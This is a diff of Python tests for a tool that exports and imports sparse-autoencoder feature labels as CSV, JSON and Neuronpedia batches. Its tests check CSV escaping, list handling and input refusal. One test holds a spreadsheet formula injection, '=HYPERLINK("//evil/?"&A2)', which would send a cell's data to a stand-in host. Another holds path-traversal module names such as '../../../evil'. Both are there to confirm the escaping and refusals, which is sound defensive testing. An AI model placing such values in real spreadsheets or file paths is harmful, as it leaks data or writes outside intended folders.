@@ -34,7 +34,7 @@ def run(tmp_path: Path) -> Any:
     (tmp_path / "run").mkdir()
     run = fake_run(tmp_path / "run")
     run.labels.put_automatic(
-        [Label(2, "two", "automatic", method="on", scores=(SCORE,))], {"sae_hash": "abc"}
+        [Label(2, "two", "automatic", method="on", scores=(SCORE,))], {"sae_hash": run.index.sae_hash}
     )
     run.labels.add([FULL, Label(5, "five", "person", "me")], starred=[5, 6])
     run.labels.set_note(4, "only a note")
@@ -90,6 +90,42 @@ def test_csv_loses_nothing_that_a_table_can_hold(
     export(run, out, "csv")
     import_labels(out, other, D_SAE)
     pd.testing.assert_frame_equal(other.table(), run.labels.table())
+    assert patterns(other) == patterns(run.labels)
+
+
+def patterns(labels: Labels) -> dict[int, str]:
+    return {feature: label.pattern for feature, label in labels.all().items()}
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.lists(st.text(st.sampled_from("'=+-@\t\r\n ,;x\""), max_size=5), min_size=4, max_size=4))
+def test_no_cell_of_a_table_is_a_formula_and_every_text_comes_back(
+    tmp_path_factory: pytest.TempPathFactory, texts: list[str]
+) -> None:
+    label, author, pattern, note = texts
+    written = Label(1, label.strip() or "x", "person", author, author, pattern, note=note.strip())
+    run, other, out = two_stores(tmp_path_factory, [written])
+    export(run, out, "csv")
+    with out.open(newline="") as file:
+        for row in csv.DictReader(file):
+            assert all(not value.startswith(tuple("=+-@\t\r")) for value in row.values())
+    import_labels(out, other, D_SAE)
+    assert other.get(1) == written
+
+
+def test_a_formula_of_a_label_stands_behind_a_quotation_mark(run: Any, other: Labels, tmp_path: Path) -> None:
+    run.labels.set(0, '=HYPERLINK("//evil/?"&A2)', pattern="-1")
+    run.labels.set(7, "'tis one already")
+    export(run, tmp_path / "a.csv", "csv", [0, 7])
+    with (tmp_path / "a.csv").open(newline="") as file:
+        rows = list(csv.DictReader(file))
+    assert [(each["label"], each["pattern"]) for each in rows] == [
+        ('\'=HYPERLINK("//evil/?"&A2)', "'-1"),
+        ("'tis one already", ""),
+    ]
+    (tmp_path / "hand.csv").write_text("feature,label\n1,-ing\n2,'-ed\n")
+    import_labels(tmp_path / "hand.csv", other, D_SAE)
+    assert [other.get(feature).text for feature in (1, 2)] == ["-ing", "-ed"]
 
 
 @settings(max_examples=15, deadline=None)
@@ -142,6 +178,73 @@ def test_reading_a_file_again_adds_nothing(run: Any, other: Labels, tmp_path: Pa
     change = other.change()
     assert import_labels(tmp_path / "out", other, D_SAE) == 0
     assert other.change() == change
+
+
+list_names = st.text(st.characters(codec="utf-8"), min_size=1, max_size=6).map(str.strip).filter(bool)
+
+
+@settings(max_examples=20, deadline=None)
+@given(
+    st.dictionaries(
+        list_names, st.dictionaries(st.integers(0, D_SAE - 1), words().map(str.strip)), max_size=3
+    )
+)
+def test_json_keeps_lists_in_their_order_with_their_notes(
+    tmp_path_factory: pytest.TempPathFactory, lists: dict[str, dict[int, str]]
+) -> None:
+    run, other, out = two_stores(tmp_path_factory, [Label(1, "one")])
+    for name, members in lists.items():
+        run.labels.add_to_list(name, [])
+        for feature, note in members.items():
+            run.labels.add_to_list(name, [feature], note)
+    export(run, out, "json")
+    import_labels(out, other, D_SAE)
+    assert other.lists() == {name: len(members) for name, members in lists.items()}
+    for name, members in lists.items():
+        assert list(other.list_members(name).items()) == list(members.items())
+    change = other.change()
+    assert import_labels(out, other, D_SAE) == 0
+    assert other.change() == change
+
+
+def test_lists_come_to_those_that_are_there(run: Any, tmp_path: Path, other: Labels) -> None:
+    run.labels.add_to_list("mine", [5, 1], "new")
+    run.labels.add_to_list("mine", [6])
+    run.labels.add_to_list("else", [4])
+    assert export(run, tmp_path / "some.json", "json", [6, 5]) == 2
+    other.add_to_list("mine", [0, 5], "old")
+    import_labels(tmp_path / "some.json", other, D_SAE)
+    assert list(other.list_members("mine").items()) == [(0, "old"), (5, "new"), (6, "")]
+    assert list(other.lists()) == ["mine"]
+
+
+def test_lists_alone_are_something_to_export(tmp_path: Path, other: Labels) -> None:
+    run = fake_run(tmp_path)
+    run.labels.add_to_list("mine", [2])
+    assert export(run, tmp_path / "a.json", "json") == 0
+    assert import_labels(tmp_path / "a.json", other, D_SAE) == 0
+    assert other.list_members("mine") == {2: ""}
+
+
+def test_a_json_of_another_sae_is_refused_whoever_gave_the_labels(run: Any, tmp_path: Path) -> None:
+    """Also into a run that holds no automatic labels, or nothing yet."""
+    export(run, tmp_path / "a.json", "json")
+    assert json.loads((tmp_path / "a.json").read_text())["sae_hash"] == run.index.sae_hash
+    mine = Labels.open(tmp_path / "mine.sqlite", sae_hash="another")
+    for _ in range(2):
+        with pytest.raises(InputError) as caught:
+            import_labels(tmp_path / "a.json", mine, D_SAE)
+        assert str(caught.value) == (
+            f"{tmp_path}/a.json holds labels of another SAE: import it into the run of that one."
+        )
+        mine.set(1, "mine")
+
+
+def test_an_export_says_of_which_sae_it_is_also_without_automatic_labels(tmp_path: Path) -> None:
+    run = fake_run(tmp_path)
+    run.labels.set(1, "mine")
+    export(run, tmp_path / "a.json", "json")
+    assert json.loads((tmp_path / "a.json").read_text())["sae_hash"] == run.index.sae_hash
 
 
 def test_what_comes_back_to_its_own_run_is_known_there(run: Any, tmp_path: Path) -> None:
@@ -328,6 +431,17 @@ BAD = [
         "{}/a.json holds labels of another SAE: import it into the run of that one.",
     ),
     (
+        put(
+            "a.json",
+            '{"kind": "labels", "format_version": 1, "labels": [],\n"lists": {"l": [{"feature": 8}]}}',
+        ),
+        "{}/a.json, list 'l': there is no feature 8: the SAE has the features 0 to 7.",
+    ),
+    (
+        put("a.json", '{"kind": "labels", "format_version": 1, "labels": [],\n"lists": {"l": 3}}'),
+        "{}/a.json, list 'l': a list must have a name and a list of members.",
+    ),
+    (
         put("a.jsonl.gz", gzip.compress(row(1, "x").encode() * 99)[:-9]),
         "{}/a.jsonl.gz is a gzip file that is cut short or damaged: get it again.",
     ),
@@ -426,6 +540,39 @@ def test_an_upload_has_neuronpedias_keys_and_keeps_its_limits(tmp_path: Path) ->
     assert ends[20:23] == [(3.6, 4.0, 0.1)] * 3
 
 
+def test_a_feature_without_an_example_is_not_uploaded(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Its firings may all have been left out of the examples; the count of it is not 0."""
+    (tmp_path / "run").mkdir()
+    run = fake_run(tmp_path / "run", d_sae=200)
+    for name in ("top_examples", "range_examples"):
+        examples = getattr(run.index, name)
+        monkeypatch.setattr(run.index, name, lambda f, of=examples: of(f) if f not in (0, 150) else [])
+    assert export(run, tmp_path / "out", "neuronpedia-batch") == 197
+    bodies = [json.loads((tmp_path / "out" / f"batch-{n}.json").read_text()) for n in range(2)]
+    assert [len(body["features"]) for body in bodies] == [128, 69]
+    features = [feature for body in bodies for feature in body["features"]]
+    assert [each["index"] for each in features] == [f for f in range(200) if f not in (0, SILENT, 150)]
+    assert all(each["activations"] for each in features)
+    with pytest.raises(InputError, match="None of these features has an example in the index"):
+        export(run, tmp_path / "none", "neuronpedia-batch", [0, SILENT])
+    assert not (tmp_path / "none").exists()
+
+
+@pytest.mark.parametrize("module", ["../../../evil", "gemma/6-res", "..", "a\\b"])
+def test_a_module_that_names_another_folder_is_refused(run: Any, tmp_path: Path, module: str) -> None:
+    (tmp_path / "deep").mkdir()
+    with pytest.raises(InputError) as caught:
+        export(run, tmp_path / "deep" / "out", "delphi", source_id=module)
+    assert str(caught.value) == (
+        f"The module {module!r} is part of the names of files: it must hold no /, no \\ and no two dots."
+    )
+    assert sorted(path.name for path in tmp_path.iterdir()) == ["deep", "run"]
+    assert list((tmp_path / "deep").iterdir()) == []
+    assert export(run, tmp_path / "out", "neuronpedia", source_id=module) == 3  # there it is no file's name
+
+
 def test_features_are_written_in_the_order_in_which_they_are_asked_for(run: Any, tmp_path: Path) -> None:
     assert export(run, tmp_path / "a.csv", "csv", [5, 0, 1, 5]) == 2
     with (tmp_path / "a.csv").open(newline="") as file:
@@ -453,7 +600,12 @@ def test_what_cannot_be_exported_is_one_sentence_and_writes_nothing(run: Any, tm
         ("new", "csv", [0], f"{nothing} has a label, a note or a star: there is nothing to export."),
         ("new", "json", [0], f"{nothing} has a label, a note or a star: there is nothing to export."),
         ("new", "neuronpedia", [4], f"{nothing} has a label: there is nothing to export."),
-        ("new", "neuronpedia-batch", [SILENT], f"{nothing} fires in the index: there is nothing to upload."),
+        (
+            "new",
+            "neuronpedia-batch",
+            [SILENT],
+            f"{nothing} has an example in the index: there is nothing to upload.",
+        ),
     ]
     for out, to, features, sentence in cases:
         with pytest.raises(InputError) as caught:
